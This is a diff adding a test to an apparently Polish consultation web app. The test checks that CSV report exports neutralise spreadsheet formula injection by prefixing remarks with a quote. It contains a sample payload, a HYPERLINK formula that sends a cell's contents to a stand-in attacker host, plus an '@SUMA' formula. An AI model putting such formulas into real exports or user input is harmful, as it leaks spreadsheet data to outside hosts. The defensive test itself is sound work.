@@ -89,3 +89,22 @@ def test_remarks_csv_is_unchanged_and_linked(client, published):
 def test_draft_exports_are_for_the_office_only(client, consultation):
     for name in ("raport-ankiety.csv", "raport-udzial.csv"):
         assert client.get(f"/konsultacje/{consultation.slug}/{name}").status_code == 404
+
+
+def test_a_remark_that_looks_like_a_formula_is_not_one_in_the_csv(
+    client, consultation, make_resident, official
+):
+    remark = services.comment_on_paragraph(
+        actor=make_resident(),
+        paragraph=consultation.paragraphs.first(),
+        text='=HYPERLINK("http://zly.example/?"&A1;"Kliknij")',
+    )
+    services.answer_remark(
+        actor=official, remark=remark, response="accepted", justification="@SUMA(A1)"
+    )
+    finish(consultation)
+    services.publish_report(actor=official, consultation=consultation, conclusions="Wnioski")
+    body = rows(client, f"/konsultacje/{consultation.slug}/raport.csv")[1:]
+    assert body[0][7] == '\'=HYPERLINK("http://zly.example/?"&A1;"Kliknij")'
+    assert body[0][9] == "'@SUMA(A1)"
+    assert body[0][0] == "1"
